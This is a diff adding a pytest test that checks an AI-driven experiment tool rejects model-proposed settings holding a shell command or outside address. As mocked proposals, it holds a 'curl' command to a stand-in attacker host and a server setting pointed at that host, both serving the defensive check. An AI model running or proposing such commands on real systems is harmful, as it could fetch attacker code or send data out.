@@ -319,3 +319,23 @@ def test_an_idea_in_words_is_set_beside_published_work_where_there_is_a_network(
     found = evo_apart(*words, cwd=workspace, **papers.environment).data["papers"]
     assert "DPO Revisited: a Closer Look" in [one["text"] for one in found]
     assert evo_apart(*words, cwd=workspace).data["papers"] == []
+
+
+def test_a_model_proposes_no_command_and_no_address(workspace: Path, api: Anthropic) -> None:
+    """Neither does it hear of parameters that hold one."""
+    shutil.copytree(recipes.shipped() / "grpo", workspace / "recipes" / "grpo")
+    evil = "https://evil.example"
+    api.proposals = [
+        proposal(recipe="command", settings=[{"name": "argv", "value": f"curl {evil}"}]),
+        proposal(recipe="grpo", settings=[{"name": "vllm_server", "value": evil}]),
+    ]
+    outcome = asked(workspace)
+    shutil.rmtree(workspace / "recipes" / "grpo")
+    assert not outcome.own
+    assert "argv is a text" in outcome.warnings
+    assert "vllm_server is a text" in outcome.warnings
+    told = api.asked[0]["messages"][0]["content"]
+    assert '"argv"' not in told
+    assert "vllm_server" not in told
+    assert '"scheduler"' in told, "what is chosen from a list is told"
+    assert evil not in json.dumps([one.idea.patch for one in outcome.ideas])
